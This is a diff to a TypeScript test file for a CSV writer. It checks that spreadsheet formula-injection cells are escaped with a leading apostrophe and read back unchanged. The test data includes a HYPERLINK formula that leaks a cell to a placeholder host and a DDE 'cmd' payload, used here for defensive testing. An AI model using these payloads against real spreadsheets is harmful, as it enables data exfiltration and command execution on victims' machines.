@@ -3,8 +3,10 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { DuckDBInstance } from '@duckdb/node-api';
+import fc from 'fast-check';
 import { afterAll, describe, expect, it } from 'vitest';
 import { removeDir, tempDir } from '../../testkit/tmp';
+import { csvLine } from '../redact/lines';
 import { CsvParser, PARQUET_ROW_GROUP, parseCsv, readBack } from './formats';
 
 const root = tempDir('casefile-formats-');
@@ -58,5 +60,27 @@ describe('read-back', () => {
     const rows = [];
     for await (const r of readBack(file, 'jsonl')) rows.push(r);
     expect(rows).toEqual([{ id: '1', raw: 'a' }, { id: '2', raw: null }]);
+  });
+
+  it('CSV cells that a spreadsheet would run as a formula are written with a leading \', read back as they were', async () => {
+    const file = path.join(root, 'formula.csv');
+    const columns = ['id', 'message', 'raw'];
+    const write = (rows: { id: number; message: string | null; raw: string | null }[]) =>
+      fs.writeFileSync(file, 'id,message,raw\r\n' + rows.map((r) => csvLine(r, columns)).join(''));
+    write([{ id: 1, message: '=HYPERLINK("http://x.example/?"&A1,"click")', raw: "@SUM(1+1)*cmd|' /C calc'!A0" }, { id: 2, message: '-2+3', raw: '+1' }, { id: 3, message: '\t=1', raw: '\r=1' }]);
+    const cells = [...parseCsv(fs.readFileSync(file, 'utf8'))].slice(1).flatMap((r) => r.slice(1));
+    expect(cells).toEqual(["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'+1", "'\t=1", "'\r=1"]);
+    // any text, a cell already starting with ' included: nothing written starts a formula, and the read-back (which
+    // the fail-closed check's clean claims are verified against) returns exactly the cells given
+    const text = fc.option(fc.oneof(fc.string(), fc.constantFrom("'=1", "''-x", "'", '=', "'a", '-')), { nil: null });
+    await fc.assert(fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 6 }), async (pairs) => {
+      const rows = pairs.map(([message, raw], i) => ({ id: i + 1, message, raw }));
+      write(rows);
+      for (const r of [...parseCsv(fs.readFileSync(file, 'utf8'))].slice(1)) for (const c of r.slice(1)) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+      const back = [];
+      for await (const r of readBack(file, 'csv')) back.push(r);
+      // CSV has no null: an empty cell reads back as ''
+      expect(back).toEqual(rows.map((r) => ({ id: String(r.id), message: r.message ?? '', raw: r.raw ?? '' })));
+    }), { numRuns: 200 });
   });
 });
